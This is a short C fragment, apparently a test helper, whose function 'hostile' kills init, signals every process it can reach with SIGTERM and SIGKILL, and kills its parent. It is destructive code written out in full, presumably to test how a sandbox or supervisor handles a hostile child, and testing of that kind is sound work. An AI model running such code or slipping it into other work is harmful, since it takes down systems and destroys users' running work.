// kills everything it may: every process that it can see, and init
#include <signal.h>
#include <stdio.h>
#include <unistd.h>

static void hostile(void)
{
    puts("killing");
    fflush(stdout);
    kill(1, SIGKILL);
    kill(-1, SIGTERM);
    kill(-1, SIGKILL);
    kill(getppid(), SIGKILL);
}
